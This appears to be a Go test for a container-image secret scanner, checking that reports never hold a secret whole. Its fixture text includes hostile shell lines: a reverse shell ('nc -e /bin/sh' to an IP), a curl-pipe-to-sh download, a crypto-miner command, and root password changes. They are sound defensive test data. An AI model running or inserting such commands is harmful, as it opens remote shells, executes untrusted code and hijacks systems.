package builtin_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/lazaret/lazaret/inspect"
	"github.com/lazaret/lazaret/inspect/builtin"
	"github.com/lazaret/lazaret/internal/oci"
	"github.com/lazaret/lazaret/internal/testimage"
)

// samples are secrets of many forms, by name. They are made up on the spot.
func samples() map[string]string {
	id, key := testimage.AWSKey("whole")
	return map[string]string{
		"aws id": id, "aws key": key, "github token": testimage.GitHubToken("whole"), "password": "korrekt-Pferd." + "Batterie9", "short password": "hun" + "ter2x!",
		"hex": "9f86d081884c7d65" + "9a2feaa0c55ad015", "stripe": "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc",
	}
}

// inspectAll inspects a blob with all detectors and returns its report as it is stored.
func inspectAll(t *testing.T, i *inspect.Inspector, blob []byte) string {
	t.Helper()
	r, err := i.Inspect(t.Context(), oci.Descriptor{Digest: oci.DigestOf(blob), Size: int64(len(blob))}, bytes.NewReader(blob))
	if err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// No report holds a secret whole, wherever in an image it is written.
func TestNoReportHoldsASecret(t *testing.T) {
	detectors, err := builtin.New(builtin.Config{FingerprintKey: []byte("an installation's")})
	if err != nil {
		t.Fatal(err)
	}
	i, err := inspect.New(inspect.DefaultLimits(), detectors...)
	if err != nil {
		t.Fatal(err)
	}
	for name, secret := range samples() {
		t.Run(name, func(t *testing.T) {
			lines := fmt.Sprintf("export API_TOKEN=%[1]s\ncurl -u me:%[1]s https://me:%[1]s@files.example.net/x | sh\necho root:%[1]s | chpasswd\nnc -e /bin/sh 45.9.148.85 4444 # %[1]s\n"+
				"xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u me -p %[1]s --pass=%[1]s\nsshpass -p %[1]s ssh root@45.9.148.85\npassword: %[1]s\nss-server -k %[1]s -p 8388\naws_secret_access_key = %[1]s\n", secret)
			config, err := json.Marshal(map[string]any{
				"architecture": "amd64", "os": "linux", "rootfs": map[string]any{"type": "layers", "diff_ids": []string{}},
				"config": map[string]any{
					"Env": []string{"API_TOKEN=" + secret, "URL=postgres://me:" + secret + "@db/x"}, "Entrypoint": []string{"/bin/sh", "-c", lines},
					"Cmd": []string{"--password", secret, "--token=" + secret}, "Labels": map[string]string{"x.token": secret},
				},
				"history": []map[string]any{
					{"created_by": "ARG API_TOKEN=" + secret}, {"created_by": "RUN |1 API_TOKEN=" + secret + " /bin/sh -c " + lines},
					{"created_by": "ENV PASSWORD=" + secret, "empty_layer": true}, {"created_by": "RUN git clone https://me:" + secret + "@example.net/x"},
				},
			})
			if err != nil {
				t.Fatal(err)
			}
			var files []testimage.File
			for _, p := range []string{"opt/run.sh", "root/.env", "root/.aws/credentials", "etc/cron.d/x", "srv/app.py", "root/.bash_history", "etc/supervisor/conf.d/a.conf", "opt/x.txt"} {
				files = append(files, testimage.File{Path: p, Body: []byte(lines), Mode: 0o755})
			}
			layer, err := testimage.Tar(files)
			if err != nil {
				t.Fatal(err)
			}
			for what, blob := range map[string][]byte{"a config": config, "a layer": layer, "a bare file": []byte(lines)} {
				got := inspectAll(t, i, blob)
				if n := strings.Index(got, secret); n >= 0 {
					t.Errorf("the report on %s holds it: %q", what, got[max(0, n-200):min(len(got), n+100)])
				}
				if what == "a layer" && !strings.Contains(got, `"rule"`) {
					t.Error("nothing was found: the test shows nothing")
				}
			}
		})
	}
}
